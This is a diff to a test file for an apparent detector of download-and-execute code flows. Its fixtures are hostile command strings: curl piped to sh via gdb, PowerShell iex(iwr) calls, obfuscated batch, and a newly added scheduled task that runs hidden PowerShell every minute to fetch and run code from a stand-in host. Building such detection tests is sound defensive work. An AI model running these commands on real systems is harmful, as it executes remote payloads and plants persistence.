@@ -50,6 +50,11 @@ def flows(text: str, language: str, path: str = "file") -> set[tuple[str, str, s
         ("shell", "gdb -ex 'shell curl https://c.example/p | sh' -ex quit", ("exec", *FROM)),
         ("batch", "powershell -c iex(iwr https://c.example/p)", ("eval", *FROM)),
         ("batch", 'set a=power\nset b=shell -nop -c "iex(iwr https://c.example/p)"\n%a%%b%', ("eval", *FROM)),
+        (
+            "batch",
+            r'schtasks /create /sc minute /tn a /tr "powershell -w hidden -c \"iwr https://c.example/p | iex\"" /f',
+            ("eval", *FROM),
+        ),
         ("batch", "cmd /c curl https://c.example/p | cmd", ("exec", *FROM)),
         ("powershell", "& ([scriptblock]::Create(@('iex (iwr ht','tps://c.example/p)') -join ''))", ("eval", *FROM)),
         (
